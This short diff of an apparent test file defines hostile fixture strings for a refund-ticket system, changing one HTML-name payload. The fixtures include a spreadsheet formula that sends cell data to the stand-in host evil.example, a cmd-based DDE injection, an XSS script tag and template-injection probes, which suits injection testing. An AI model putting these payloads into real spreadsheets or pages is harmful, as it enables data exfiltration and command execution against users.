@@ -34,7 +34,7 @@ FORMULA = f'=HYPERLINK("http://evil.example/?"&A1;"{MARK} 点这里")+cmd|\' /C 
 PLAIN = f"<script>alert('{MARK}')</script> =1+1 {{{{91*97}}}}"  # where only ASCII may stand
 LONG = "W" * 700 + "长" * 700
 BROKEN = "\0 \ud800"  # which JSON over the wire may not hold, but files did
-NAME = f"<b>{MARK}</b>\"'{{{{91*97}}}}<script>x"  # people are named by visible text
+NAME = f"<b>{MARK}<b>\"'{{{{91*97}}}}<script>x"  # people are named by visible text
 TEXTS = {
     "en": f"{FORMULA} {HTML} {TEMPLATES} {CONTROLS} where is my refund? {LONG}",
     "zh": f"{FORMULA} {HTML} {TEMPLATES} {CONTROLS} 我的退款还没有到账 {LONG}",
